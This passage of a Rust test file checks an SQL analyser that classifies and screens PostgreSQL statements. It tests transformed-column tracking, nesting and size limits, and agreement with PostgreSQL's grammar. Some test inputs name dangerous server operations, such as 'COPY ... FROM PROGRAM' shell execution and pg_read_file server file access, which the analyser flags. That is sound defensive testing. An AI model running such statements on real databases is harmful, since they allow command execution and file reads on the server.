        &["ssn"],
    ),
    (
        "SELECT id FROM customers WHERE 'x' LIKE pattern",
        &["pattern"],
    ),
    // Writes and DDL bodies.
    (
        "UPDATE customers SET name = upper(email) WHERE id = 1",
        &["email"],
    ),
    ("INSERT INTO t SELECT concat(ssn) FROM customers", &["ssn"]),
    (
        "CREATE VIEW v AS SELECT md5(ssn) AS h FROM customers",
        &["ssn"],
    ),
    (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT upper(ssn) FROM customers'",
        &["ssn"],
    ),
    // Not transformed: plain projection, renaming, comparison, other operators.
    ("SELECT ssn FROM customers", &[]),
    ("SELECT c.ssn, c.* FROM customers c", &[]),
    ("SELECT id FROM customers WHERE ssn = '1'", &[]),
    (
        "SELECT id FROM customers WHERE ssn IN ('1', '2') AND ssn BETWEEN '0' AND '9'",
        &[],
    ),
    ("SELECT count(*) FROM customers", &[]),
    (
        "SELECT ssn + 0, -n, CASE WHEN ssn IS NULL THEN 1 END FROM customers",
        &[],
    ),
    ("SELECT ssn COLLATE \"C\" FROM customers ORDER BY ssn", &[]),
    // Only aliased: the alias is what a mask by column name sees (policy's business).
    ("SELECT x FROM (SELECT ssn AS x FROM customers) s", &[]),
    ("SELECT now(), 'a' || 'b'", &[]),
    ("SET search_path = lower(x)", &[]),
];

#[test]
fn transformed_columns() {
    for (sql, expected) in TRANSFORMED {
        let a = one(sql);
        assert!(!a.classes.contains(&C::Unknown), "{sql}: {a:#?}");
        assert_eq!(a.transformed, set(expected), "{sql}: transformed");
    }
}

#[test]
fn transformed_columns_are_also_columns() {
    let a = one("SELECT upper(c.email), c.id FROM customers c WHERE c.ssn LIKE '1%'");
    assert_eq!(a.transformed, set(&["c.email", "c.ssn"]));
    assert_eq!(a.columns, set(&["c.email", "c.id", "c.ssn"]));
}

#[test]
fn transformed_in_every_statement_of_a_text() {
    let parsed = analyze("SELECT ssn FROM customers; SELECT upper(email) FROM customers");
    let got: Vec<_> = parsed
        .statements
        .iter()
        .map(|a| a.transformed.clone())
        .collect();
    assert_eq!(got, [set(&[]), set(&["email"])]);
}

#[test]
fn transformed_serializes() {
    let parsed = analyze("SELECT row_to_json(t) FROM customers t");
    let json = serde_json::to_value(&parsed).unwrap();
    assert_eq!(
        json["statements"][0]["transformed"],
        serde_json::json!(["t", "t.*"])
    );
    // Statements not parsed carry an empty set.
    let json = serde_json::to_value(analyze("frobnicate upper(ssn)")).unwrap();
    assert_eq!(json["statements"][0]["transformed"], serde_json::json!([]));
}

// ---------------------------------------------------------------------------------------------
// Limits and robustness

/// Run `f` on a thread with the 2 MiB stack of a tokio worker.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(f)
        .unwrap()
        .join()
        .unwrap()
}

#[test]
fn huge_input_is_unknown() {
    let sql = format!("SELECT '{}'", "x".repeat(2 * 1024 * 1024));
    let parsed = analyze(&sql);
    assert!(
        parsed.error.as_deref().unwrap().contains("too large"),
        "{:?}",
        parsed.error
    );
    assert_eq!(parsed.statements[0].classes, classes(&[C::Unknown]));
    assert!(parsed.statements[0].text.len() < 8192);
}

#[test]
fn deep_nesting_is_unknown() {
    on_small_stack(|| {
        let n = 100_000;
        let sql = format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n));
        let parsed = analyze(&sql);
        assert!(
            parsed.error.as_deref().unwrap().contains("nesting"),
            "{:?}",
            parsed.error
        );
        assert_eq!(parsed.statements[0].classes, classes(&[C::Unknown]));
        // Unbalanced, too.
        let parsed = analyze(&"(".repeat(n));
        assert!(parsed.has_unknown());
        let parsed = analyze(&format!("SELECT ARRAY{}1{}", "[".repeat(n), "]".repeat(n)));
        assert!(parsed.has_unknown());
    });
}

#[test]
fn moderate_nesting_is_parsed() {
    on_small_stack(|| {
        let n = 150;
        let a = one(&format!(
            "SELECT {}pg_read_file('x'){}",
            "(".repeat(n),
            ")".repeat(n)
        ));
        assert_eq!(a.classes, classes(&[C::Read, C::VolatileFunction]));
        assert!(a.dangerous.contains("server file access: pg_read_file"));
        let mut sql = "SELECT * FROM deep".to_string();
        for _ in 0..60 {
            sql = format!("SELECT * FROM ({sql}) s");
        }
        let a = one(&sql);
        assert_eq!(a.tables_read, set(&["deep"]));
        // Parenthesized joins take the most stack per level in sqlparser.
        let n = 40;
        let sql = format!(
            "SELECT * FROM {}t{}",
            "(".repeat(n),
            " JOIN u ON true)".repeat(n)
        );
        let a = one(&sql);
        assert_eq!(a.tables_read, set(&["t", "u"]));
        for n in 1..=6 {
            let sql = format!(
                "SELECT * FROM {}t{}",
                "(".repeat(n),
                " JOIN u ON true)".repeat(n)
            );
            assert_eq!(one(&sql).classes, classes(&[C::Read]));
        }
    });
}

#[test]
fn long_operator_chains_are_bounded() {
    on_small_stack(|| {
        // Under the limit: parsed, walked, printed and dropped on a 2 MiB stack.
        for chain in [
            format!("SELECT 1{}", "+1".repeat(3000)),
            format!("SELECT 1 WHERE true{}", " AND true".repeat(3000)),
            format!("SELECT 1{}", " UNION SELECT 1".repeat(1500)),
            format!("SELECT 1{}", "::int".repeat(3000)),
            format!("SELECT a{} FROM t", "[1]".repeat(1500)),
        ] {
            let parsed = analyze(&chain);
            assert!(!parsed.has_unknown(), "{:?}", parsed.error);
        }
        // Over it: refused before parsing.
        for chain in [
            format!("SELECT 1{}", "+1".repeat(500_000)),
            format!("SELECT 1 WHERE true{}", " OR true".repeat(100_000)),
            format!("SELECT 1{}", " UNION SELECT 1".repeat(50_000)),
            format!("SELECT {}1", "NOT ".repeat(100_000)),
            format!(
                "SELECT (1{})",
                "+(1".repeat(150) + &"+1".repeat(4000) + &")".repeat(150)
            ),
        ] {
            let parsed = analyze(&chain);
            assert!(parsed.has_unknown());
            assert!(
                parsed.error.as_deref().unwrap().contains("operators"),
                "{:?}",
                parsed.error
            );
        }
        // Chains in separate statements or separate groups do not add up.
        let sql = format!("SELECT 1{0}; SELECT 1{0}", "+1".repeat(3000));
        assert!(!analyze(&sql).has_unknown());
        let sql = format!(
            "SELECT {}",
            vec![format!("(1{})", "+1".repeat(3000)); 3].join(", ")
        );
        assert!(!analyze(&sql).has_unknown());
    });
}

#[test]
fn many_statements_and_big_flat_lists_are_fine() {
    let sql = "INSERT INTO t VALUES (1, -1);".repeat(5000);
    let parsed = analyze(&sql);
    assert_eq!(parsed.statements.len(), 5000);
    assert!(!parsed.has_unknown());
    let values: Vec<String> = (0..20_000).map(|i| format!("({i}, -{i})")).collect();
    let a = one(&format!("INSERT INTO t VALUES {}", values.join(",")));
    assert_eq!(a.classes, classes(&[C::Insert]));
}

#[test]
fn serializes_with_snake_case_classes() {
    let parsed = analyze("COPY t FROM PROGRAM 'id'");
    let json = serde_json::to_value(&parsed).unwrap();
    assert_eq!(
        json["statements"][0]["classes"],
        serde_json::json!(["copy_from", "copy_program"])
    );
    assert_eq!(json["error"], serde_json::Value::Null);
    let back: StatementClass = serde_json::from_str("\"set_reset\"").unwrap();
    assert_eq!(back, C::SetReset);
}

#[test]
fn printed_text_is_normalized() {
    let parsed = analyze("select   *\n from t -- c\n where a=1;  /* x */ insert into u values(1)");
    let texts: Vec<_> = parsed.statements.iter().map(|a| a.text.as_str()).collect();
    assert_eq!(
        texts,
        ["SELECT * FROM t WHERE a = 1", "INSERT INTO u VALUES (1)"]
    );
}

/// `cargo test --release -p interceptor policy::sql::tests::timing -- --ignored --nocapture`
#[test]
#[ignore]
fn timing() {
    let sql = "SELECT o.id, o.total, c.name FROM public.orders o JOIN customers c ON c.id = o.customer_id \
               WHERE o.created_at > now() - interval '7 days' AND c.country = 'FR' ORDER BY o.total DESC LIMIT 20";
    assert!((180..=220).contains(&sql.len()), "{}", sql.len());
    let n = 20_000;
    for _ in 0..1000 {
        std::hint::black_box(analyze(sql));
    }
    let start = std::time::Instant::now();
    for _ in 0..n {
        std::hint::black_box(analyze(std::hint::black_box(sql)));
    }
    let per = start.elapsed() / n;
    println!(
        "analyze of a {}-byte statement: {per:?} per call",
        sql.len()
    );
    // Nested deeper than the inline limit: parsed on a thread of its own.
    let nested = "SELECT * FROM t WHERE a IN (SELECT b FROM u WHERE c IN (SELECT d FROM v WHERE \
                  e = lower(upper(trim(f)))))";
    let n = 2_000;
    let start = std::time::Instant::now();
    for _ in 0..n {
        std::hint::black_box(analyze(std::hint::black_box(nested)));
    }
    let per = start.elapsed() / n;
    println!(
        "analyze of a {}-byte statement nested 6 deep: {per:?} per call",
        nested.len()
    );
}

/// The differential test (issue 14): every statement of the analyser corpus goes through both
/// readings, sqlparser's analysis and PostgreSQL's own grammar. They agree, or the text is
/// refused (`Unknown` for the analysis, or a gate refusal), never allowed on one reading.
#[test]
fn postgresql_and_the_analysis_agree_on_the_corpus() {
    let mut disagreements = Vec::new();
    for (sql, _, _) in CORPUS {
        let unchecked = analyze_unchecked(sql);
        if let Err(objection) = super::super::pg_grammar::check(sql, &unchecked.statements) {
            let checked = analyze(sql);
            assert!(
                checked.has_unknown() || checked.refusal.is_some(),
                "{sql}: {objection} but the text is not refused"
            );
            disagreements.push(format!("{sql}: {objection}"));
        }
    }
    // What is left are texts PostgreSQL rejects or reads as more than the analysis saw; each
    // is refused. Listed so that a change in either parser shows up here.
    for d in &disagreements {
        eprintln!("refused on disagreement: {d}");
    }
    assert!(disagreements.len() <= 12, "{disagreements:#?}");
}
